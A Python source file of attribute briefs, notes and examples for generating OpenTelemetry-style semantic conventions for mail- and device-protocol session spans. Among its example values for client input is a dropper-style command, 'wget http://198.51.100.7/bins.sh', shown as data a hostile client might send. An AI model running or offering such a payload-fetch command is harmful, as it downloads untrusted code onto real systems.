"""What the code does not know of its own names: briefs, notes, examples. `generate.py` puts both together.

A name without a text here, and a text without a name in the code, fail the tests.
"""

from __future__ import annotations

from typing import Any, NamedTuple


class Text(NamedTuple):
    """One attribute of ours; ``values`` are the members of an enum that the code does not list."""

    brief: str
    type: str = "string"
    examples: tuple[Any, ...] = ()
    note: str = ""
    values: tuple[str, ...] = ()


class OnSpan(NamedTuple):
    """One attribute of the session span: when it is set, and what the semantic conventions call its level."""

    key: str
    when: str  # start, learnt or end
    level: str | dict[str, str] = "required"
    brief: str = ""  # for the page; the registry has the attribute's own


DEPENDENCY = "https://opentelemetry.io/schemas/1.44.0"
DEPENDENCY_PATH = "https://github.com/open-telemetry/semantic-conventions.git@v1.44.0[model]"
DESCRIPTION = "Sessions of mail and device protocols: one span per connection, each step an event."

# Names that OpenTelemetry defines, used as it defines them; the registry refers to its registry for them.
OPENTELEMETRY: dict[str, str] = {
    "client.address": "string",
    "client.port": "int",
    "error.type": "string",
    "exception.message": "string",
    "exception.type": "string",
    "network.local.address": "string",
    "network.local.port": "int",
    "network.peer.address": "string",
    "network.peer.port": "int",
    "network.protocol.name": "string",
    "network.transport": "string",
    "server.address": "string",
    "server.port": "int",
    "tls.cipher": "string",
    "tls.client.subject": "string",
    "tls.protocol.name": "string",
    "tls.protocol.version": "string",
    "tls.resumed": "boolean",
    "tls.server.subject": "string",
    "user.hash": "string",
    "user.name": "string",
}

ATTRIBUTES: dict[str, Text] = {
    "sessionspan.session.id": Text(
        "The session, one connection of one protocol: a UUID of version 4.",
        examples=("550e8400-e29b-41d4-a716-446655440000",),
        note="Not `session.id`: that is a person's visit in a browser or an app, which may hold many connections.",
    ),
    "sessionspan.side": Text("Which side of the connection the instrumented process is."),
    "sessionspan.session.state": Text(
        "Whether a login is in force in an open session.", values=("unauthenticated", "authenticated")
    ),
    "sessionspan.session.duration": Text(
        "How long the session lasted, in seconds.", "double", (0.016, 1740.2), "From a monotonic clock."
    ),
    "sessionspan.outcome": Text(
        "How the session went, in one word.",
        note="The first that holds: `error` (the instrumented side failed), `auth_failed` (logins failed and none "
        "succeeded), `rejected` (mail was refused and none accepted), `aborted` (the peer left something half "
        "done), else `ok`.",
    ),
    "sessionspan.end_reason": Text(
        "Why the session ended: the most specific cause that was seen.",
        note="A client that says QUIT and then resets the connection has quit; a timeout that closes the "
        "connection is a timeout.",
    ),
    "sessionspan.client.hash": Text(
        "HMAC-SHA256 of the client's address, in hexadecimal, in place of `client.address`.",
        examples=("1f0e4a6c9d0b43a1b9b8b8c2b6c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f",),
    ),
    "sessionspan.device.type": Text(
        "What kind of device the other end is, as the client library calls it.", examples=("cisco_ios", "linux")
    ),
    "sessionspan.operation.id": Text(
        "The operation in which it happened: a UUID of version 4.",
        examples=("0d1f7a52-7c7e-4d6b-9a39-0a9d3f0d7c11",),
    ),
    "sessionspan.operation.name": Text(
        "What the application calls the operation.", examples=("interface_collection",)
    ),
    "sessionspan.operation.device.id": Text("The application's own id of the device.", examples=("1", "fw01")),
    "sessionspan.operation.user.id": Text("The application's own id of its user.", examples=("1", "netops")),
    "sessionspan.operation.commands": Text(
        "The commands that the operation is going to send, at most 100, without secrets.",
        "string[]",
        (("show interface all",),),
    ),
    "sessionspan.operation.summary": Text(
        "How it went, in the application's own words.", examples=("Found 5 interfaces",)
    ),
    "sessionspan.operation.duration": Text("How long the operation took, in seconds.", "double", (4.2,)),
    "sessionspan.command.fingerprint": Text(
        "The command without what varies: of low cardinality.", examples=("show interface *",)
    ),
    "sessionspan.command.size": Text("Bytes of the command, before anything was cut.", "int", (12,)),
    "sessionspan.command.truncated": Text("Whether something of the command's text was cut.", "boolean"),
    "sessionspan.command.prompt.duration": Text(
        "Of the command's duration what it took to find the device's prompt, in seconds.", "double", (0.05,)
    ),
    "sessionspan.command.wait.duration": Text(
        "Of the command's duration what passed from sending it to the end, in seconds.", "double", (0.04,)
    ),
    "sessionspan.response.size": Text("Bytes of the device's answer, before anything was cut.", "int", (2048,)),
    "sessionspan.response.text": Text(
        "The device's answer without secrets, its head and tail, at most 4 KiB.", examples=("Cisco IOS Software",)
    ),
    "sessionspan.response.truncated": Text("Whether something of the answer was cut.", "boolean"),
    "sessionspan.file.direction": Text(
        "Whether the file went to the device or came from it.", values=("put", "get")
    ),
    "sessionspan.file.source": Text("The file that was copied.", examples=("ios.bin",)),
    "sessionspan.file.destination": Text("What it is called now.", examples=("flash:ios.bin",)),
    "sessionspan.file.size": Text("Bytes of the file.", "int", (1048576,)),
    "sessionspan.peer.hostname": Text(
        "What the peer calls itself (EHLO, HELO, LHLO).",
        examples=("laptop.example", "[192.0.2.7]"),
        note="Nobody has verified it.",
    ),
    "sessionspan.proxy.protocol": Text(
        "How a proxy in front told who the client is.", values=("proxy_v1", "proxy_v2")
    ),
    "sessionspan.proxy.address": Text(
        "The proxy that told who the client is; it is also `network.peer.address`.", examples=("10.0.0.2",)
    ),
    "sessionspan.tls.mode": Text(
        "How the connection is encrypted, if it is.", values=("none", "starttls", "implicit")
    ),
    "sessionspan.tls.cipher": Text(
        "OpenSSL's name of the cipher suite, when its IANA name, for `tls.cipher`, is not known.",
        examples=("AECDH-AES256-SHA",),
    ),
    "sessionspan.tls.peer.verified": Text("Whether the peer showed a certificate and it was verified.", "boolean"),
    "sessionspan.auth.sequence": Text(
        "How many logins this session has accepted so far.",
        "int",
        (0, 1),
        "0 before the first login. With the session's id it names one identity's time in a session.",
    ),
    "sessionspan.auth.mechanism": Text("The SASL mechanism (RFC 4422), from a closed set."),
    "sessionspan.auth.user.name": Text(
        "The name that was tried (authentication identity), escaped, at most 255 characters.",
        examples=("alice@example.com",),
        note="Untrusted. It may be a mistyped password: people type it into the wrong field.",
    ),
    "sessionspan.auth.attempt.count": Text("Logins that were tried.", "int", (0, 3)),
    "sessionspan.auth.user.count": Text("Different users whose login was accepted, at most 100.", "int", (0, 1)),
    "sessionspan.command.name": Text(
        "The command, from the protocol's closed set.",
        note="Anything else is `_OTHER`: a client that lost track sends its password where a command belongs.",
    ),
    "sessionspan.command.sequence": Text("The number of the command in its session, from 1.", "int", (1, 14)),
    "sessionspan.command.duration": Text(
        "From when the server took the command to its reply, in seconds.",
        "double",
        (0.0004,),
        "It stands still while the server waits for the client: for content after DATA, for a SASL response.",
    ),
    "sessionspan.command.text": Text(
        "The argument of the command, cut at 512 characters; never that of AUTH or of an unknown command.",
        examples=("FROM:<alice@example.com> SIZE=1024",),
    ),
    "sessionspan.command.count": Text("Commands that the client sent.", "int", (13,)),
    "sessionspan.command.failed.count": Text("Commands that were refused.", "int", (2,)),
    "sessionspan.reply.code": Text("The reply code of SMTP or LMTP (RFC 5321 4.2).", "int", (250, 535)),
    "sessionspan.reply.status": Text(
        "The class of the reply, or the word that it begins with; `none` when there was none.",
        values=("2xx", "3xx", "4xx", "5xx", "ok", "no", "bad", "bye", "err", "none"),
    ),
    "sessionspan.reply.enhanced_status": Text(
        "The enhanced status code (RFC 3463) at the start of the reply's text.", examples=("2.1.5", "5.7.8")
    ),
    "sessionspan.reply.response_code": Text(
        "The response code in brackets at the start of the reply's text (IMAP: RFC 5530; POP3: RFC 2449; "
        "ManageSieve: RFC 5804 1.3).",
        examples=("AUTHENTICATIONFAILED", "SYS/TEMP", "_OTHER"),
        note="From a closed set; anything else is `_OTHER`.",
    ),
    "sessionspan.reply.text": Text(
        "The text of the reply behind its codes, at most 512 bytes.", examples=("no such user",)
    ),
    "sessionspan.input.text": Text(
        "What the client sent, escaped, at most 4096 bytes of it.",
        examples=("wget http://198.51.100.7/bins.sh", "HELO attacker.example"),
        note="Of a protocol that is known: its commands and their arguments, a line each, and of a login the name "
        "of the command alone. Of another one: the bytes, unless they look like a login.",
    ),
    "sessionspan.input.size": Text("Bytes that the client sent.", "int", (22,)),
    "sessionspan.output.text": Text(
        "The answer, escaped, at most 4096 bytes of it.",
        examples=("250 mx.example", "sh: wget: not found"),
        note="Of a protocol that is known: the replies to the commands of the input.",
    ),
    "sessionspan.output.size": Text("Bytes of the answer; 0 when there was none.", "int", (12,)),
    "sessionspan.interaction.duration": Text(
        "From the client's first byte to the last one of the answer, in seconds.", "double", (0.0004,)
    ),
    "sessionspan.idle.duration": Text(
        "How long the client waited for news, in seconds.",
        "double",
        (1740.2,),
        "It is not in the duration of the command IDLE.",
    ),
    "sessionspan.received.size": Text("Bytes of plaintext that this side received.", "int", (1012,)),
    "sessionspan.sent.size": Text("Bytes of plaintext that this side sent.", "int", (640,)),
    "sessionspan.mail.accepted.count": Text(
        "Messages that were accepted; over LMTP, once per accepted recipient.", "int", (2,)
    ),
    "sessionspan.mail.rejected.count": Text(
        "Refusals of the greeting, MAIL, RCPT, DATA, BDAT or the final dot.", "int", (1,)
    ),
    "sessionspan.mail.type": Text("What happened to mail: the last word of the event's name."),
    "sessionspan.mail.transaction.sequence": Text(
        "The number of the mail transaction in its session, from 1.", "int", (1,)
    ),
    "sessionspan.mail.spool.id": Text(
        "A new id of the accepted message, made by the instrumentation.",
        examples=("1d98076abbbc11ed940250ebf67f93bd",),
    ),
    "sessionspan.mail.sender": Text(
        "The envelope sender (RFC 5321 reverse path); empty for the null sender.", examples=("alice@example.com",)
    ),
    "sessionspan.mail.recipients": Text(
        "The envelope recipients for which the message was accepted, at most 100.",
        "string[]",
        (("bob@example.org",),),
    ),
    "sessionspan.mail.recipient": Text("The one envelope recipient in question.", examples=("bob@example.org",)),
    "sessionspan.mail.recipient.count": Text(
        "For how many recipients the message was accepted; the list is cut, this is not.", "int", (1, 250)
    ),
    "sessionspan.mail.message.size": Text(
        "Bytes of the message, without dot-stuffing and the final dot.", "int", (2048,)
    ),
    "sessionspan.mail.message.uid": Text(
        "The unique id of the message in its mailbox: of POP3 its UIDL (RFC 1939 7), of IMAP its UID, in decimal.",
        examples=("4827313", "whqtswO00WBw418f9t5JxYwZ"),
        note="As far as the session has shown it, in this response or an earlier one.",
    ),
    "sessionspan.mail.message.id": Text(
        "The message's Message-ID (RFC 5322 3.6.4), without its angle brackets.",
        examples=("01IDEQPFAOH@foo.albany.edu",),
        note="As far as the header was sent with the message, and it stands in its first 16 KiB.",
    ),
    "sessionspan.mail.reception.protocol": Text(
        "How the message came (RFC 3848, without the letters for TLS and AUTH, which have attributes).",
        values=("SMTP", "ESMTP", "LMTP"),
    ),
    "sessionspan.mail.response.command": Text(
        "The command to which this was the reply; `.` is the end of the content.", examples=("RCPT", ".")
    ),
    "sessionspan.store.log_id": Text(
        "The run of the program: the same for all that one process does to messages, and no other's.",
        examples=("27I80009GF",),
        note="A forked child is a run of its own.",
    ),
    "sessionspan.store.mailbox": Text(
        "The mailbox, as its user sees it: out of modified UTF-7. POP3 has one only, without a name.",
        examples=("INBOX", "Entw\xfcrfe"),
    ),
    "sessionspan.store.user.name": Text("The account that is managed.", examples=("jdoe",)),
    "sessionspan.store.user.profile": Text(
        "What of the account's profile was set, or changed; never a password.",
        "string[]",
        (("quota:10240 -> 20480",),),
    ),
    "sessionspan.event.count": Text("Events of the session that were recorded.", "int", (15,)),
    "sessionspan.event.dropped.count": Text(
        "Events that were only counted, because the session had too many.", "int", (0,)
    ),
    "sessionspan.event.unspanned.count": Text(
        "Events that are in the logs but not on the span, which holds about 120.", "int", (0,)
    ),
    "sessionspan.drop.reason": Text("Why an event was counted but not recorded."),
    "session_id": Text(
        "`sessionspan.session.id`, under the name that people search for.",
        examples=("550e8400-e29b-41d4-a716-446655440000",),
    ),
    "client_ip": Text("`client.address`, under the name that people search for.", examples=("192.168.1.100",)),
    "protocol": Text("The session protocol in capitals.", examples=("SMTP", "LMTP")),
    "username": Text("`user.name`, under the name that people search for.", examples=("alice@example.com",)),
}

# A value of a closed set of the code that is not a word by itself.
MEMBERS: dict[str, dict[str, str]] = {
    "sessionspan.end_reason": {
        "_OTHER": "None of the others.",
        "auth_failed": "Too many failed logins.",
        "connect_failed": "Client side: no connection came about.",
        "garbage_collected": "Nobody held the session any more, and nobody had ended it.",
        "handler_error": "The application raised.",
        "idle": "Nothing happened for too long, by the protocol's own rule.",
        "limit": "A limit of the server, of commands for example.",
        "local_close": "This side closed.",
        "peer_close": "The peer said that it closes (421, BYE).",
        "peer_eof": "The peer closed.",
        "peer_reset": "The peer reset the connection.",
        "process_exit": "The process ended, or got SIGTERM.",
        "protocol_error": "What was sent is not the protocol.",
        "proxy_invalid": "The PROXY header was missing or wrong.",
        "quit": "QUIT, or what the protocol has for it.",
        "reconnected": "Client side: a new connection took its place.",
        "recovered": "Closed after a crash, by a later process.",
        "shutdown": "The server was stopped.",
        "timeout": "The peer was silent for too long.",
        "tls_failed": "The TLS handshake failed.",
    },
    "sessionspan.drop.reason": {
        "session_cap": "The session had more events than `SESSIONSPAN_MAX_EVENTS`.",
        "queue_full": "Reserved.",
        "too_large": "Reserved.",
        "internal_error": "Reserved.",
        "export_failed": "Reserved.",
    },
}

_KNOWN = {"conditionally_required": "When it is known."}
_LOGIN = {"conditionally_required": "Once the peer has accepted a login that shows it."}
_SHAKEN = {"conditionally_required": "After a TLS handshake."}
_PROXIED = {"conditionally_required": "Behind a proxy."}
_FAILED = {"conditionally_required": "If and only if the instrumented side failed."}

_INSIDE = {"conditionally_required": "When a client's session was opened inside an operation that has it."}

SPAN: tuple[OnSpan, ...] = (
    OnSpan("sessionspan.session.id", "start"),
    OnSpan("sessionspan.side", "start"),
    OnSpan(
        "network.protocol.name",
        "start",
        {"conditionally_required": "For a protocol of a network."},
        "The protocol in lower case: `smtp`, `lmtp`, ...",
    ),
    OnSpan("network.transport", "start", brief="`tcp` or `unix`."),
    OnSpan("client.address", "start", _KNOWN, "The real client, also behind a proxy; unset when unknown."),
    OnSpan("client.port", "start", _KNOWN, "The real client's port."),
    OnSpan("sessionspan.client.hash", "start", {"opt_in": "In place of the address."}),
    OnSpan("network.peer.address", "start", _KNOWN, "The other end of the socket: the client, or a proxy."),
    OnSpan("network.peer.port", "start", _KNOWN, "Its port."),
    OnSpan("network.local.address", "start", _KNOWN, "Our end of the socket."),
    OnSpan("network.local.port", "start", _KNOWN, "Its port."),
    OnSpan("server.address", "start", _KNOWN, "The server as configured or asked for."),
    OnSpan("server.port", "start", _KNOWN, "Its port."),
    OnSpan("sessionspan.device.type", "start", {"conditionally_required": "For a session with a device."}),
    OnSpan("sessionspan.operation.id", "start", _INSIDE),
    OnSpan("sessionspan.operation.name", "start", _INSIDE),
    OnSpan("sessionspan.operation.device.id", "start", _INSIDE),
    OnSpan("sessionspan.operation.user.id", "start", _INSIDE),
    OnSpan("sessionspan.tls.mode", "start"),
    OnSpan("sessionspan.proxy.protocol", "start", _PROXIED),
    OnSpan("sessionspan.proxy.address", "start", _PROXIED),
    OnSpan("user.name", "learnt", _LOGIN, "The user as whom the session acts (RFC 4616 authzid); the last one."),
    OnSpan("user.hash", "learnt", {"opt_in": "In place of the user."}, "HMAC-SHA256 of the user."),
    OnSpan("sessionspan.peer.hostname", "learnt", {"recommended": "As far as the settings let it."}),
    OnSpan("tls.protocol.name", "learnt", _SHAKEN, "`tls`."),
    OnSpan("tls.protocol.version", "learnt", _SHAKEN, "`1.2`, `1.3`."),
    OnSpan("tls.cipher", "learnt", _SHAKEN, "The cipher suite, by its IANA name."),
    OnSpan("sessionspan.tls.cipher", "learnt", {"conditionally_required": "When the IANA name is not known."}),
    OnSpan("tls.resumed", "learnt", _SHAKEN, "Whether the TLS session was resumed."),
    OnSpan(
        "tls.client.subject",
        "learnt",
        {"conditionally_required": "When the client showed a certificate."},
        "The client certificate's subject (RFC 4514).",
    ),
    OnSpan(
        "tls.server.subject",
        "learnt",
        {"conditionally_required": "On the client side."},
        "The server certificate's subject.",
    ),
    OnSpan("sessionspan.tls.peer.verified", "learnt", _SHAKEN),
    OnSpan("sessionspan.outcome", "end"),
    OnSpan("sessionspan.end_reason", "end"),
    OnSpan("error.type", "end", _FAILED, "What failed on our side: the exception's class."),
    OnSpan("sessionspan.session.duration", "end"),
    OnSpan("sessionspan.command.count", "end"),
    OnSpan("sessionspan.command.failed.count", "end"),
    OnSpan("sessionspan.auth.attempt.count", "end"),
    OnSpan("sessionspan.auth.user.count", "end"),
    OnSpan("sessionspan.received.size", "end"),
    OnSpan("sessionspan.sent.size", "end"),
    OnSpan("sessionspan.mail.accepted.count", "end"),
    OnSpan("sessionspan.mail.rejected.count", "end"),
    OnSpan("sessionspan.event.count", "end"),
    OnSpan("sessionspan.event.dropped.count", "end"),
    OnSpan(
        "sessionspan.event.unspanned.count",
        "end",
        {"conditionally_required": "When events are put on the span at all."},
    ),
    OnSpan("session_id", "start", "recommended"),
    OnSpan("client_ip", "start", "recommended"),
    OnSpan("protocol", "start", "recommended"),
    OnSpan("username", "learnt", "recommended"),
)

SPAN_NAME = "`{PROTOCOL} session`, the protocol in capitals and nothing else: `SMTP session`."
SPAN_NOTE = (
    "One transport connection is one session is one span. STARTTLS, RSET and a second login do not end it. "
    "Behind a PROXY protocol it is told once the header is there; the proxy's own health check is none. The "
    "status is ERROR only when the instrumented side failed: a wrong password, a refused recipient or a "
    "connection that breaks off is no error of the server. The status description is fixed text."
)
SPAN_BRIEFS = {
    "server": "A session that this process serves. It is a root: a connection is nobody's child.",
    "client": "A session that this process has opened.",
}
IDENTITY_BRIEFS = {
    "user.name": "The user as whom the session acts at that moment.",
}
